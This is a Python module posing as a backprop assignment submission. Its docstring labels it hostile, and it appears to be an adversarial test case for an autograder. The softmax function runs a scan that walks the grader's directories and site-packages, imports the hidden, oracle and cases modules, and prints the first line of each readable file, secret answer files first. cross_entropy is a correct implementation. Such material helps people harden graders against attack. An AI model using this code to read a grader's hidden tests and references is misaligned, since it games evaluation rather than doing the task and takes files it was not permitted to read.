"""Hostile: walks the file system for the grader's files and puts what it can read into its output.

Looks where an autograder keeps itself: the autograder's root (/autograder, or the `roots` in
case.json), this Python's prefix and site-packages (an installed grader), and imports
`assignments.<name>.hidden` / `oracle` / `cases`. For every file it can open it prints
`READ <path> | <first line>`, the grader's secrets first (hidden.py, oracle.py, cases.py,
variants/, reference/), within the 8 kB a check's output keeps. `cross_entropy` stays correct and
is a correct answer: the checks after the attack still run.
"""
import json
import os
import site
import sys

import numpy as np

SECRET_NAMES = ("hidden.py", "oracle.py", "cases.py")
SECRET_PARTS = ("variants", "reference", "source")


def _roots():
    roots = []
    try:
        with open("case.json") as f:
            roots += json.load(f).get("roots", [])
    except (OSError, ValueError):
        pass
    roots += ["/autograder", sys.prefix]
    try:
        roots += site.getsitepackages()
    except AttributeError:
        pass
    roots += [p for p in sys.path if p.endswith("site-packages")]
    return list(dict.fromkeys(roots))


def _is_secret(path):
    """The grader's own: anything inside assignments/<name>/, reference/, variants/, the autograder's
    source/, and the hidden checks, oracles and cases by name (the framework's cases.py aside)."""
    parts = path.split(os.sep)
    inside_assignment = "assignments" in parts and len(parts) > parts.index("assignments") + 2
    return inside_assignment or any(p in SECRET_PARTS for p in parts) or (
        os.path.basename(path) in SECRET_NAMES and "grader" not in parts)


def _interesting(dirpath):
    """Inside site-packages, only the grader's own folders (numpy and torch hold thousands of files)."""
    parts = dirpath.split(os.sep)
    if "site-packages" not in parts:
        return True
    below = parts[parts.index("site-packages") + 1:]
    return not below or below[0] in ("assignments", "grader", "reference", "dl-grader")


def scan():
    seen, secret, public = set(), [], []
    for root in _roots():
        for dirpath, dirnames, filenames in os.walk(root):
            if not _interesting(dirpath):
                dirnames[:] = []
                continue
            for name in filenames:
                path = os.path.join(dirpath, name)
                if path in seen or name.endswith(".pyc"):
                    continue
                seen.add(path)
                try:
                    with open(path, encoding="utf-8", errors="replace") as f:
                        first = f.readline().strip()[:100]
                except OSError:
                    continue
                (secret if _is_secret(path) else public).append(f"READ {path} | {first}")
    for module in ("hidden", "oracle", "cases"):
        try:
            mod = __import__(f"assignments.backprop.{module}", fromlist=["x"])
            secret.append(f"READ import assignments.backprop.{module} | {(mod.__doc__ or '').strip()[:100]}")
        except Exception as exc:
            public.append(f"import assignments.backprop.{module}: {type(exc).__name__}")
    return secret, public


def softmax(o):
    secret, public = scan()
    print(f"SECRETS READ: {len(secret)}")
    out, size = [], 0
    # the best first: the check's output keeps 8 kB
    secret.sort(key=lambda line: not any(k in line for k in (*SECRET_NAMES, "variants", "reference")))
    for line in secret + public:
        size += len(line) + 1
        if size > 7000:
            break
        out.append(line)
    print("\n".join(out))
    return np.zeros_like(np.asarray(o, dtype=np.float64))


# --- correct, untouched by the attack ---------------------------------------------------------
def cross_entropy(o, t):
    o = np.asarray(o, dtype=np.float64)
    t = np.asarray(t).astype(np.int64).reshape(-1)
    m = o.max(axis=1, keepdims=True)
    lse = m[:, 0] + np.log(np.exp(o - m).sum(axis=1))
    return float(np.mean(lse - o[np.arange(len(t)), t]))
